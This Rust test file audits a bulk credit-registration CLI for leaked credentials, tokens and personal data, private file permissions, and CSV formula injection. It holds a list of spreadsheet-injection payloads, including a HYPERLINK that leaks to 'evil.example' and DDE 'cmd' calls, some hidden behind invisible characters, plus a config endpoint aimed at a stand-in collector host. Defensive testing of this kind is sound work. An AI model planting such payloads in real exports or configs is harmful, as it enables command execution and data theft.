//! The secrets and personal-data audit of issue #7: a whole run through faults (5xx, 429, resets,
//! hangs, garbage) at the loudest logging, in JSON, and a `validate` of the same file. Nothing the
//! terminal shows may hold a full PAN, mobile number or e-mail address, the merchant's
//! credentials or an access token; every file written is private (0600); and formula payloads
//! placed in every column come out neutralised in every CSV file the tool writes.

use std::collections::BTreeSet;
use std::time::Duration;

use crate::common::{HEADER, Test};
use cibil_bulk::sandbox::{Sandbox, SandboxConfig};

const REGISTRATION_ID: &str = "AOP-S3CR3T-4471";
const COMPANY_CODE: &str = "CMP-S3CR3T-9902";

/// What people put in cells to make a spreadsheet run something (OWASP "CSV Injection"), plus
/// the same hidden behind whitespace, which a spreadsheet's import may trim.
const PAYLOADS: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u{a0}=HYPERLINK(\"http://evil.example\")",
    "\u{200b}+1",
];

/// A cell a spreadsheet could take for a formula: it starts with a tab or CR, or its first
/// visible character starts a formula, and it is not marked as text with a leading `'`.
fn is_formula(cell: &str) -> bool {
    if cell.starts_with('\'') {
        return false;
    }
    let invisible =
        |c: &char| c.is_whitespace() || matches!(c, '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}');
    cell.starts_with(['\t', '\r'])
        || matches!(cell.chars().find(|c| !invisible(c)), Some('=' | '+' | '-' | '@'))
}

/// The customer file: valid rows with a payload in an extra column (whose header is a payload
/// too), then rows with a payload in each field's column, which makes them invalid.
fn customer_file() -> (Vec<u8>, Vec<String>) {
    let mut personal = Vec::new();
    let mut out = csv::Writer::from_writer(Vec::new());
    let header: Vec<&str> = HEADER.split(',').chain(["notes", PAYLOADS[0]]).collect();
    out.write_record(&header).unwrap();
    let mut row = |i: u32, change: Option<(usize, &str)>| {
        let mut cells: Vec<String> = crate::common::customer(i).split(',').map(str::to_owned).collect();
        personal.extend([crate::common::pan(i), crate::common::mobile(i), format!("c{i}@example.com")]);
        cells.push(PAYLOADS[i as usize % PAYLOADS.len()].to_owned());
        cells.push("x".to_owned());
        if let Some((column, payload)) = change {
            cells[column] = payload.to_owned();
        }
        out.write_record(&cells).unwrap();
    };
    for i in 0..60 {
        row(i, None);
    }
    let mut i = 100;
    for column in 0..6 {
        for payload in PAYLOADS {
            row(i, Some((column, payload)));
            i += 1;
        }
    }
    // Values that are personal and wrong: shown to the clerk in the files, masked on the terminal.
    let wrong =
        [(4, "ravi.kumar.personal@example"), (5, "98765 43210 1"), (2, "ABCPK12345Z"), (3, "31/02/1985")];
    for (column, value) in wrong {
        row(i, Some((column, value)));
        i += 1;
    }
    personal.extend(wrong.iter().map(|(_, value)| value.to_string()));
    (out.into_inner().unwrap(), personal)
}

#[track_caller]
fn assert_not_shown(run: &crate::common::Run, secrets: &[String], what: &str) {
    for secret in secrets {
        run.terminal_lacks(secret);
    }
    assert!(!secrets.is_empty(), "no {what} to look for");
}

#[track_caller]
fn assert_formula_safe(run: &crate::common::Run, name: &str) {
    let csv = run.csv(name);
    for (i, record) in std::iter::once(&csv.headers).chain(&csv.rows).enumerate() {
        for cell in record {
            assert!(!is_formula(cell), "{name}, record {i}: {cell:?} would run as a formula");
        }
    }
}

#[test]
fn a_faulty_run_at_full_volume_shows_no_secret_and_writes_only_private_safe_files() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let sandbox = runtime
        .block_on(Sandbox::start(
            ([127, 0, 0, 1], 0).into(),
            SandboxConfig {
                registration_id: REGISTRATION_ID.into(),
                company_code: COMPANY_CODE.into(),
                error_rate: 0.1,
                throttle_rate: 0.05,
                reset_rate: 0.05,
                garbage_rate: 0.05,
                hang_rate: 0.02,
                seed: Some(11),
                ..SandboxConfig::default()
            },
        ))
        .unwrap();
    let (file, personal) = customer_file();
    let credentials = vec![REGISTRATION_ID.to_owned(), COMPANY_CODE.to_owned()];

    let run = Test::new()
        .file("in.csv", &file)
        .env("AOPAY_REGISTRATION_ID", REGISTRATION_ID)
        .env("AOPAY_COMPANY_CODE", COMPANY_CODE)
        .args(["run", "in.csv", "--endpoint", &sandbox.endpoint(), "--summary", "s.json"])
        .args(["--timeout", "1s", "--max-attempts", "10", "--max-consecutive-failures", "1000"])
        .args(["--rate", "2000/s", "--concurrency", "8", "-vv", "--log-format", "json"])
        .run();
    run.code(1);
    let stats = sandbox.stats();
    assert!(stats.registered > 0, "{stats:?}");
    assert!(
        stats.faults.errors + stats.faults.throttled + stats.faults.resets + stats.faults.garbage > 0,
        "the run met no fault: {stats:?}"
    );
    assert!(run.stderr.lines().any(|l| l.starts_with('{')), "no JSON log line:\n{}", run.stderr);

    // The access tokens AOPay gave are kept in the state, for the OTP step, and nowhere else.
    let conn = rusqlite::Connection::open(run.path("cibil-bulk.db")).unwrap();
    let mut query = conn.prepare("SELECT access_token FROM rows WHERE access_token IS NOT NULL").unwrap();
    let tokens: Vec<String> = query.query_map([], |r| r.get(0)).unwrap().map(Result::unwrap).collect();
    drop(query);
    drop(conn);
    assert_not_shown(&run, &personal, "personal data");
    assert_not_shown(&run, &credentials, "credentials");
    assert_not_shown(&run, &tokens, "access tokens");
    for name in ["in.results.csv", "in.errors.csv", "s.json"] {
        let text = String::from_utf8_lossy(&run.bytes(name)).into_owned();
        for secret in tokens.iter().chain(&credentials) {
            assert!(!text.contains(secret.as_str()), "{name} holds a secret");
        }
    }

    // Every file the run made holds customers' data: private, whatever the umask.
    let made: BTreeSet<String> = run.listing().into_iter().filter(|n| n != "in.csv").collect();
    assert!(made.is_superset(&BTreeSet::from(
        ["cibil-bulk.db", "in.results.csv", "in.errors.csv", "s.json"].map(String::from)
    )));
    for name in &made {
        assert_eq!(run.mode(name), 0o600, "{name}");
    }

    for name in ["in.results.csv", "in.errors.csv"] {
        assert_formula_safe(&run, name);
    }
    // The payloads did reach the files (as text): the check above saw them.
    let errors = run.csv("in.errors.csv");
    assert!(errors.rows.iter().flatten().any(|c| c.starts_with("' =1+1")), "{errors:?}");
    assert!(errors.headers.iter().any(|h| h.starts_with("'=HYPERLINK")), "{:?}", errors.headers);

    let validate = Test::new()
        .file("in.csv", &file)
        .args(["validate", "in.csv", "--errors", "e.csv", "--output", "r.csv", "--summary", "v.json"])
        .args(["-vv", "--log-format", "json"])
        .run();
    validate.code(1);
    assert_not_shown(&validate, &personal, "personal data");
    for name in ["e.csv", "r.csv"] {
        assert_formula_safe(&validate, name);
    }
    for name in ["e.csv", "r.csv", "v.json"] {
        assert_eq!(validate.mode(name), 0o600, "{name}");
    }

    runtime.block_on(async {
        tokio::time::timeout(Duration::from_secs(10), sandbox.shutdown()).await.unwrap();
    });
}

#[test]
fn credentials_given_as_flags_are_refused_and_not_echoed() {
    for flag in ["--registration-id", "--company-code", "--RegistrationID", "--company_code"] {
        let run = Test::new()
            .file("in.csv", format!("{HEADER}\n{}\n", crate::common::customer(1)))
            .args(["run", "in.csv", "--sandbox", flag, REGISTRATION_ID])
            .run();
        run.code(2).stderr_contains("never taken from the command line").terminal_lacks(REGISTRATION_ID);
        assert_eq!(run.listing(), ["in.csv"], "nothing was done");
        let run = Test::new().args(["validate", "in.csv", &format!("{flag}={COMPANY_CODE}")]).run();
        run.code(2).terminal_lacks(COMPANY_CODE);
    }
}

#[test]
fn a_password_in_the_endpoint_is_refused_and_written_nowhere() {
    let secret = "Hunter2-pw-77";
    let run = Test::new()
        .file("in.csv", format!("{HEADER}\n{}\n", crate::common::customer(1)))
        .env("AOPAY_REGISTRATION_ID", REGISTRATION_ID)
        .env("AOPAY_COMPANY_CODE", COMPANY_CODE)
        .args(["run", "in.csv", "--summary", "s.json", "--endpoint"])
        .arg(format!("https://merchant:{secret}@api.example.in/api/AOP/CibilScore/registeration"))
        .run();
    run.code(2).stderr_contains("user name or password").terminal_lacks(secret).terminal_lacks("merchant:");
    for name in run.listing() {
        let bytes = String::from_utf8_lossy(&run.bytes(&name)).into_owned();
        assert!(!bytes.contains(secret), "{name} holds the password");
    }
    assert!(!run.listing().iter().any(|n| n.ends_with(".db")), "no state was made: {:?}", run.listing());
    // From the config file too, and in a dry run.
    let run = Test::new()
        .file("in.csv", format!("{HEADER}\n{}\n", crate::common::customer(1)))
        .file("cibil-bulk.toml", format!("[aopay]\nendpoint = \"https://u:{secret}@api.example.in/r\"\n"))
        .args(["run", "in.csv", "--dry-run"])
        .run();
    run.code(2).stderr_contains("cibil-bulk.toml [aopay] endpoint").terminal_lacks(secret);
}

/// `cibil-bulk ARGS` in `dir`.
fn run_in(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    let mut command = assert_cmd::Command::cargo_bin("cibil-bulk").unwrap();
    command.current_dir(dir).env("CIBIL_BULK_TODAY", crate::common::TODAY).args(args);
    command.output().unwrap()
}

/// A directory holding `in.csv` (one customer) and the real state a sandbox run of it made.
fn sandbox_state() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("in.csv"), format!("{HEADER}\n{}\n", crate::common::customer(1))).unwrap();
    assert_eq!(run_in(dir.path(), &["run", "in.csv", "--sandbox"]).status.code(), Some(0));
    let state = dir.path().join("cibil-bulk.sandbox.db");
    (dir, state)
}

#[test]
fn a_state_or_config_others_can_write_is_refused_and_a_readable_state_made_private() {
    use std::os::unix::fs::PermissionsExt;
    // A real state, made by a sandbox run in this directory, then opened up.
    let (dir, state) = sandbox_state();
    let run = |args: &[&str]| run_in(dir.path(), args);

    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = run(&["run", "in.csv", "--sandbox"]);
    assert_eq!(out.status.code(), Some(2));
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        said.contains("can be written by other users (mode 666)") && said.contains("chmod 600"),
        "{said}"
    );

    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = run(&["run", "in.csv", "--sandbox"]);
    assert_eq!(out.status.code(), Some(0));
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(said.matches("was readable by other users (mode 644)").count(), 1, "{said}");
    assert_eq!(std::fs::metadata(&state).unwrap().permissions().mode() & 0o777, 0o600);
    let out = run(&["run", "in.csv", "--sandbox"]);
    assert!(!String::from_utf8_lossy(&out.stderr).contains("readable by other users"), "said once");

    std::fs::write(dir.path().join("cibil-bulk.toml"), "[run]\nrate = \"5/s\"\n").unwrap();
    std::fs::set_permissions(dir.path().join("cibil-bulk.toml"), std::fs::Permissions::from_mode(0o646))
        .unwrap();
    let out = run(&["run", "in.csv", "--sandbox"]);
    assert_eq!(out.status.code(), Some(2));
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(said.contains("the config file") && said.contains("cibil-bulk.toml"), "{said}");
}

/// `chown nobody`: a file another user owns. Only root can make one.
fn give_to_nobody(path: &std::path::Path) {
    let status = std::process::Command::new("chown").arg("nobody").arg(path).status().unwrap();
    assert!(status.success(), "chown nobody {}: this test needs root", path.display());
}

#[test]
#[ignore = "needs root, to give files to another user: .ci/run runs it as root"]
fn a_state_or_config_owned_by_another_user_is_refused_as_root() {
    let (dir, state) = sandbox_state();
    let run = |args: &[&str]| run_in(dir.path(), args);
    // Root's own files are trusted; another user's are not, even for root: whoever owns the state
    // can read every PAN it will hold.
    give_to_nobody(&state);
    let out = run(&["run", "in.csv", "--sandbox"]);
    assert_eq!(out.status.code(), Some(2));
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(said.contains("belongs to another user") && said.contains("chown"), "{said}");

    let config = dir.path().join("elsewhere.toml");
    std::fs::write(&config, "[aopay]\nendpoint = \"https://collector.evil.example/r\"\n").unwrap();
    give_to_nobody(&config);
    let out = run(&["run", "in.csv", "--config", "elsewhere.toml"]);
    assert_eq!(out.status.code(), Some(2));
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(said.contains("the config file") && said.contains("belongs to another user"), "{said}");
    assert!(!said.contains("Registering with"), "nothing was sent: {said}");
}
